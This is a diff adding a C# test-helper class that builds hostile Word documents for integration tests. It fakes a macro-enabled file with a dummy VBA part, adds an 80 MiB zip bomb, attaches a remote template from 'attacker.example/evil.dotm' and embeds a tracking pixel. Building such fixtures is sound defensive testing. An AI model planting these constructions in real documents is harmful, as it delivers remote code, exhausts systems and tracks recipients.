@@ -1,0 +1,77 @@
+using System.IO.Compression;
+using DocumentFormat.OpenXml.Packaging;
+using DocumentFormat.OpenXml.Wordprocessing;
+
+namespace FactFunctions.IntegrationTests.Infrastructure;
+
+/// <summary>Edits to a .docx for tests: through the SDK (restyle, retag) or at zip level (what the SDK would refuse to write).</summary>
+public static class DocxEdits
+{
+    public static byte[] Word(byte[] docx, Action<WordprocessingDocument> edit)
+    {
+        using var stream = new MemoryStream();
+        stream.Write(docx);
+        stream.Position = 0;
+        using (var document = WordprocessingDocument.Open(stream, true))
+        {
+            edit(document);
+        }
+
+        return stream.ToArray();
+    }
+
+    public static byte[] Zip(byte[] docx, Action<ZipArchive> edit)
+    {
+        using var stream = new MemoryStream();
+        stream.Write(docx);
+        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
+        {
+            edit(zip);
+        }
+
+        return stream.ToArray();
+    }
+
+    public static SdtElement Control(WordprocessingDocument document, string tag) =>
+        document.MainDocumentPart!.Document!.Descendants<SdtElement>().First(s => s.SdtProperties?.GetFirstChild<Tag>()?.Val?.Value == tag);
+
+    /// <summary>Declares the main part macro-enabled and adds a VBA part: a .docm in .docx clothing.</summary>
+    public static void MakeMacroEnabled(ZipArchive zip)
+    {
+        string types;
+        using (var reader = new StreamReader(zip.GetEntry("[Content_Types].xml")!.Open()))
+        {
+            types = reader.ReadToEnd();
+        }
+
+        zip.GetEntry("[Content_Types].xml")!.Delete();
+        using (var writer = new StreamWriter(zip.CreateEntry("[Content_Types].xml").Open()))
+        {
+            writer.Write(types.Replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal));
+        }
+
+        using var vba = zip.CreateEntry("word/vbaProject.bin").Open();
+        vba.Write("not really VBA"u8);
+    }
+
+    /// <summary>Adds an entry of 80 MiB of zeros, a few kilobytes compressed.</summary>
+    public static void AddBomb(ZipArchive zip)
+    {
+        using var stream = zip.CreateEntry("word/media/bomb.bin", CompressionLevel.SmallestSize).Open();
+        var zeros = new byte[1024 * 1024];
+        for (int i = 0; i < 80; i++)
+        {
+            stream.Write(zeros);
+        }
+    }
+
+    public static void AttachRemoteTemplate(WordprocessingDocument document)
+    {
+        var settings = document.MainDocumentPart!.DocumentSettingsPart!;
+        settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("https://attacker.example/evil.dotm"), "rIdAttached");
+        settings.Settings!.PrependChild(new AttachedTemplate { Id = "rIdAttached" });
+    }
+
+    public static void AddExternalImage(WordprocessingDocument document) =>
+        document.MainDocumentPart!.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", new Uri("https://tracker.example/pixel.png"), "rIdPixel");
+}
